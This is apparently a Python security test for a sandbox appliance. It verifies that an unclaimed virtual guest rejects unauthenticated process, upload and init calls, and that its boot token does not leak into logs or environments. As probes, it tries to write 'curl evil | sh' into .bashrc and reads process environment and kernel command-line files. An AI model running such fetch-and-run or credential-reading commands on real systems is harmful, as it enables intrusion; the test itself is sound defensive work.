"""A real UML guest as a warm pool holds it (booted, not claimed) refuses whoever lacks its boot token.

The boot token is on the guest kernel's command line (`cube.agent_token=`): the test checks
it does not leak into the console log (which sandbox owners read) or any process's
environment, and that the claim's /init kills it.
"""

from __future__ import annotations

import json
import struct
from typing import TYPE_CHECKING

import httpx
import pytest
import umlguests

from appliance.cubelet.envd_client import EnvdError, run_command
from appliance.runtime.base import CODE_INTERPRETER_PORT, ENVD_PORT

if TYPE_CHECKING:
    from conftest import Boot

pytestmark = [pytest.mark.uml]
SANDBOX_TOKEN = "cubetest-sandbox-token"


def _start_envelope(command: str) -> bytes:
    payload = json.dumps({"process": {"cmd": "/bin/sh", "args": ["-c", command]}, "stdin": False}).encode()
    return struct.pack(">BI", 0, len(payload)) + payload


async def test_pooled_guest_refuses_unauthenticated_calls_until_claimed(boot: Boot) -> None:
    async with boot(claimed=False) as (instance, _spec):
        host, port = instance.endpoint(ENVD_PORT)
        envd = f"http://{host}:{port}"
        async with httpx.AsyncClient(timeout=60, trust_env=False) as http:
            started = await http.post(
                f"{envd}/process.Process/Start",
                content=_start_envelope("touch /home/user/planted"),
                headers={"Content-Type": "application/connect+json", "Connect-Protocol-Version": "1"},
            )
            assert started.status_code == 401 and started.json()["code"] == "unauthenticated"
            upload = await http.post(
                f"{envd}/files",
                params={"path": "/home/user/.bashrc"},
                content=b"curl evil | sh\n",
                headers={"Content-Type": "application/octet-stream"},
            )
            assert upload.status_code == 401
            assert (await http.post(f"{envd}/init", json={"accessToken": "attacker"})).status_code == 401
            contexts = await http.get(f"http://{host}:{CODE_INTERPRETER_PORT}/contexts")
            assert contexts.status_code == 401
            assert (await http.get(f"{envd}/health")).status_code == 204

        # The host's token works; it is on /proc/cmdline only, not in the console log or an environment.
        token = instance.agent_token
        seen = await run_command(
            host,
            "ls /home/user/planted 2>&1; cat /proc/cmdline; echo; tr '\\0' '\\n' < /proc/1/environ; env",
            user="root",
            token=token,
        )
        assert seen.exit_code == 0 and "No such file" in seen.stdout
        assert seen.stdout.count(token) == 1 and f"cube.agent_token={token}" in seen.stdout
        assert token not in instance.console_log.read_text(errors="replace")

        await umlguests.claim(instance, {"accessToken": SANDBOX_TOKEN})
        with pytest.raises(EnvdError, match="401"):
            await run_command(host, "echo boot token", token=token)
        with pytest.raises(EnvdError, match="401"):
            await run_command(host, "echo no token")
        assert (await run_command(host, "echo claimed", token=SANDBOX_TOKEN)).stdout == "claimed\n"
